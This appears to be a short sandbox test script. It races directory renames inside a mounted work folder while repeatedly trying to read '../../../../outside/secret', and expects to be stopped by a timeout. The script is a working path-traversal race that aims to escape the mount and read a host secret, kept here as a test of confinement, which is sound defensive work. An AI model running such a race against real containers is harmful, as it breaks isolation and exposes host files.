#: attacks = the same on a host's folders
#: mount = work:/w:rw
#: timeout = 1
#: status = 124
cd /w; mkdir -p a/b/c d/e/f
(while :; do mv a/b d/e/f/b; mv d/e/f/b a/b; done 2> /dev/null) &
(while :; do mv d/e a/b/c/e; mv a/b/c/e d/e; done 2> /dev/null) &
while :; do find . > /dev/null; (cd a/b/c && cat ../../../../outside/secret; cd ../../.. && pwd -P); done > /dev/null 2>&1
